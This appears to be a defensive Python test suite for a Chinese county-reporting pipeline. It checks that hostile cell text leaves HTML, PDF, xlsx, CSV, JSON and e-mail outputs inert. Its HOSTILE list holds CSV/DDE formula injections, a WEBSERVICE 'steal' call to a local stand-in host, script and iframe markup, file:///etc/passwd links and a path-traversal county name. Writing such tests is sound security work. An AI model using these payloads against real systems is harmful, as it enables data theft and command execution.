"""Hostile text typed into every cell a county can fill goes through the whole quarter (read, validate,
score, documents, PDFs, history, distribution, e-mail) and comes out as plain text: no markup in the
HTML, no link, script or attachment in the PDFs, no formula or hyperlink in the xlsx, no cell a
spreadsheet would run in the CSVs, nothing written outside the run's folders, no file read that the
text names and no network request."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from guards import watched
from openpyxl import load_workbook
from sample_data import write_sample

from adapters import returns
from adapters.history import HistoryStore, read_quarter_history
from adapters.manifest import write_manifest
from adapters.office_files import read_office_inputs
from adapters.outputs import csv_bytes
from core.layout import COL_ID, COL_NOTE, COL_STATUS, COL_VALUE, DATA_SHEET, META_COUNTY, META_SHEET
from core.quarters import default_issue_date
from expectations.catalog import load_catalog
from expectations.settings import load_config
from flows import tasks
from transforms.assess import assess

QUARTER = "2022Q4"
CAT = load_catalog()
HOSTILE = [
    '=HYPERLINK("http://127.0.0.1:9/x","点此查看")',
    '=WEBSERVICE("http://127.0.0.1:9/steal?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert('x')</script>",
    '<img src="file:///etc/passwd">',
    '<link rel="attachment" href="file:///etc/passwd">',
    '<a href="javascript:alert(1)">点我</a>',
    "http://127.0.0.1:9/track.png",
    "file:///etc/passwd",
    '<iframe src="http://127.0.0.1:9/"></iframe>',
    "{{ ctx.__class__ }}{% raw %}",
    "\u202e文本方向反转\u202c 以及零宽\u200b字符",
]
FORMULA_CELLS = ['=WEBSERVICE("http://127.0.0.1:9/steal")', '=HYPERLINK("file:///etc/passwd")']
SPREADSHEET_ACTIVE = ("=", "+", "-", "@", "\t", "\r")


def _poison(path: Path) -> None:
    """Hostile text in every 备注, in the 填报值 of every third figure (as text), in every third task's
    完成情况, and two real formula cells."""
    wb = load_workbook(path)
    ws = wb[DATA_SHEET]
    header_row = next(r for r in ws.iter_rows(max_row=30) if any(c.value == COL_ID for c in r))
    col = {c.value: c.column for c in header_row}
    rows = [r for r in ws.iter_rows(min_row=header_row[0].row + 1) if r[col[COL_ID] - 1].value]
    for i, row in enumerate(rows):
        text = HOSTILE[i % len(HOSTILE)]
        for name, every in ((COL_NOTE, 1), (COL_VALUE, 3), (COL_STATUS, 3)):
            cell = row[col[name] - 1]
            if i % every == 0 and (name == COL_NOTE or cell.value not in (None, "")):
                cell.value = text
                cell.data_type = "s"  # text, as a county's typed "'=..." is
    for row, formula in zip(rows[1::7], FORMULA_CELLS, strict=False):
        row[col[COL_VALUE] - 1].value = formula  # a real formula, no cached result
    wb.save(path)


def _rename_county(path: Path, text: str) -> None:
    wb = load_workbook(path)
    ws = wb[META_SHEET]
    cell = next(r[1] for r in ws.iter_rows() if r[0].value == META_COUNTY)
    cell.value = text
    cell.data_type = "s"
    wb.save(path)


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def _html_problems(html: str) -> list[str]:
    parser = _Tags()
    parser.feed(html)
    found = []
    for tag, attrs in parser.tags:
        if tag in ("script", "iframe", "object", "embed", "base", "form"):
            found.append(f"<{tag}>")
        if tag == "link" and (attrs.get("rel") != "stylesheet" or ":" in (attrs.get("href") or "")):
            found.append(f"<link {attrs}>")
        if tag == "img" and not (attrs.get("src") or "").startswith("data:"):
            found.append(f"<img {attrs}>")
        if tag == "a" and re.match(r"\s*(javascript|file|http)", attrs.get("href") or "", re.I):
            found.append(f"<a {attrs}>")
        for name, value in attrs.items():
            if name.startswith("on") or "javascript:" in (value or ""):
                found.append(f"{tag} {name}={value}")
    return found


def _pdf_problems(data: bytes) -> list[str]:
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(data))
    root = reader.trailer["/Root"]
    found = []
    names = root.get("/Names")
    if names is not None and "/EmbeddedFiles" in names.get_object():
        found.append("embedded files")
    if "/OpenAction" in root or "/AA" in root:
        found.append("document action")
    for page in reader.pages:
        for annot in page.get("/Annots") or []:
            action = annot.get_object().get("/A")
            if action is not None:
                found.append(f"annotation action {action.get_object().get('/S')}")
    return found


def _xlsx_problems(data: bytes) -> list[str]:
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            part = zf.read(name)
            if name.startswith("xl/worksheets/") and re.search(rb"<f[\s>]", part):
                found.append(f"formula in {name}")
            if name.endswith(".rels") and b"hyperlink" in part:
                found.append(f"hyperlink in {name}")
            if name.startswith("xl/externalLinks") or name == "xl/vbaProject.bin":
                found.append(name)
    return found


def _csv_problems(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
    found = []
    for row in rows:
        for field in row:
            if field.startswith(SPREADSHEET_ACTIVE) and not re.fullmatch(r"[-+]?\d+(\.\d+)?([eE][-+]?\d+)?", field):
                found.append(field)
    return found


@pytest.fixture(scope="module")
def quarter(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile_text")
    raw, out = root / "raw", root / "out"
    write_sample(CAT, raw, [QUARTER])
    _poison(raw / QUARTER / "砚山县.xlsx")
    _poison(raw / QUARTER / "文山市.xlsx")
    _rename_county(raw / QUARTER / "马关县.xlsx", "../../etc/passwd<script>x</script>\u00a0马关县")
    with watched(root) as watch:
        current = returns.ingest_folder(raw / QUARTER, CAT, QUARTER)
        store = HistoryStore(out / "history.duckdb")
        history = read_quarter_history(store, QUARTER, 2021)
        office = read_office_inputs(raw / QUARTER, CAT, QUARTER)
        outcome = tasks.validate(current, history, CAT, office)
        scores = tasks.score(current, outcome, CAT, history, office)
        issued = default_issue_date(QUARTER)
        assessment = assess(QUARTER, scores, history, CAT, load_config().for_quarter(QUARTER), office, issued)
        docs = tasks.documents(current, outcome, scores, assessment, CAT, None, issued)
        pdfs = dict(tasks.render_pdfs(list(docs.pages.items())))
        written = tasks.write_files(out / QUARTER, {**docs.files, **pdfs})
        write_manifest(out / QUARTER, {"quarter": QUARTER, "key": "hostile"}, written, {}, CAT.version)
        tasks.record(store, current, outcome, scores, assessment)
    return {
        "root": root,
        "raw": raw,
        "out": out,
        "current": current,
        "docs": docs,
        "pdfs": pdfs,
        "written": written,
        "violations": watch.violations,
    }


CHECKED = (
    "标记、链接、脚本、附件、公式、超链接、可执行的 CSV 单元格均未出现；不写运行文件夹以外的文件，"
    "不打开文本中点名的文件，不联网"
)


def test_nothing_is_written_outside_the_run_nor_any_request_made(quarter, reliability):
    reliability(
        "文件中的恶意文本",
        "整个季度流程的文件与网络访问",
        "两个县在所有备注、三分之一的填报值和完成情况中填入公式、脚本、file:// 与 http:// 链接",
        "读取、校验、计分、生成文件、写入历史库都只在本次运行的文件夹内进行",
        "审计钩子记录的写文件、打开诱饵文件和网络连接",
    )
    assert quarter["violations"] == []
    assert {f.county for f in quarter["current"].files if f.accepted} >= {"砚山县", "文山市"}


def test_html_outputs_carry_no_markup_from_the_files(quarter, reliability):
    reliability(
        "文件中的恶意文本",
        "通报和反馈单的 HTML",
        "备注和填报值中的 <script>、<img>、<link rel=attachment>、<iframe>、javascript: 链接、模板语法",
        "全部作为文字转义显示",
        CHECKED,
    )
    pages = dict(quarter["docs"].pages)
    html = {name: text for name, text in pages.items()}
    html.update({name: data.decode() for name, data in quarter["docs"].files.items() if name.endswith(".html")})
    assert html
    for name, text in html.items():
        assert _html_problems(text) == [], name
    shown = "\n".join(html.values())
    assert "&lt;script&gt;" in shown or "&lt;script" in shown  # the text was shown, as text
    assert "../../etc/passwd" in shown  # the renamed county's file is reported, its name as text


def test_pdfs_carry_no_link_script_or_attachment(quarter, reliability):
    reliability(
        "文件中的恶意文本",
        "通报和反馈单的 PDF",
        "同上，加 <link rel=attachment href=file:///etc/passwd>",
        "PDF 中没有嵌入文件、链接动作或打开时动作",
        "pypdf 检查每个 PDF 的目录和每页注释",
    )
    assert quarter["pdfs"]
    for name, data in quarter["pdfs"].items():
        assert _pdf_problems(data) == [], name
        assert b"root:x:0:0" not in data


def test_xlsx_outputs_hold_no_formula_or_hyperlink(quarter, reliability):
    reliability(
        "文件中的恶意文本",
        "得分明细 xlsx",
        "=HYPERLINK、=WEBSERVICE、DDE（+cmd|...）文本和真实公式单元格",
        "所有单元格按类型写入，文本保持文本",
        "工作表 XML 中没有 <f> 公式、没有超链接关系、没有外部链接或宏",
    )
    books = {n: d for n, d in quarter["docs"].files.items() if n.endswith(".xlsx")}
    assert books
    for name, data in books.items():
        assert _xlsx_problems(data) == [], name


def test_csv_outputs_hold_no_cell_a_spreadsheet_would_run(quarter, reliability):
    reliability(
        "文件中的恶意文本",
        "CSV 输出",
        "以 = + - @ 开头的文本（公式、DDE）",
        "以这些字符开头的文本前加单引号，电子表格打开时按文本显示",
        "逐个单元格检查每个 CSV 文件",
    )
    tables = {n: d for n, d in quarter["docs"].files.items() if n.endswith(".csv")}
    assert tables
    for name, data in tables.items():
        assert _csv_problems(data) == [], name
    every = pd.DataFrame({"note": HOSTILE + FORMULA_CELLS + ["-12.5", "+3", "正常文本", None]})
    back = list(csv.reader(io.StringIO(csv_bytes(every).decode("utf-8-sig"))))[1:]
    assert _csv_problems(csv_bytes(every)) == []
    assert [r[0] for r in back][-4:] == ["-12.5", "+3", "正常文本", ""]
    assert back[0][0] == "'" + HOSTILE[0]


def test_json_outputs_keep_the_text_as_data(quarter, reliability):
    reliability("文件中的恶意文本", "JSON 输出", "同上", "文本原样作为 JSON 字符串保存", "每个 JSON 文件能被解析")
    for name, data in quarter["docs"].files.items():
        if name.endswith(".json"):
            json.loads(data)


def test_e_mail_carries_only_the_distributed_files(quarter, reliability, tmp_path):
    import socket
    from email import message_from_bytes, policy

    from aiosmtpd.controller import Controller

    from adapters.distribute import distribute
    from adapters.mail import send_distribution
    from expectations.settings import MailSettings

    reliability(
        "文件中的恶意文本",
        "电子邮件分发",
        "含恶意文本的通报与反馈单作为附件发送",
        "邮件头只有主题、发件人、收件人；正文不含县填报的文本；附件与分发文件逐字节相同",
        "本机 SMTP 服务器收到的每封邮件",
    )

    class Inbox:
        messages: list = []

        async def handle_DATA(self, server, session, envelope):  # noqa: N802
            self.messages.append(message_from_bytes(envelope.content, policy=policy.default))
            return "250 OK"

    target = distribute(quarter["out"], QUARTER, CAT)
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    inbox = Inbox()
    controller = Controller(inbox, hostname="127.0.0.1", port=port)
    controller.start()
    try:
        settings = MailSettings(
            host="127.0.0.1",
            port=port,
            security="none",
            sender="office@example.org",
            recipients={"州文明办": ["a@example.org"], "砚山县": ["b@example.org"]},
        )
        assert send_distribution(target, QUARTER, settings) == ["州文明办", "砚山县"]
    finally:
        controller.stop()
    for msg in inbox.messages:
        assert set(msg.keys()) <= {
            "Subject",
            "From",
            "To",
            "MIME-Version",
            "Content-Type",
            "Content-Transfer-Encoding",
            "X-Peer",
            "X-MailFrom",
            "X-RcptTo",
        }
        body = msg.get_body(("plain",)).get_content()
        assert not any(h in body for h in HOSTILE)
        folder = target / ("砚山县" if "砚山县" in str(msg["Subject"]) else "州文明办")
        for part in msg.iter_attachments():
            assert part.get_payload(decode=True) == (folder / part.get_filename()).read_bytes()
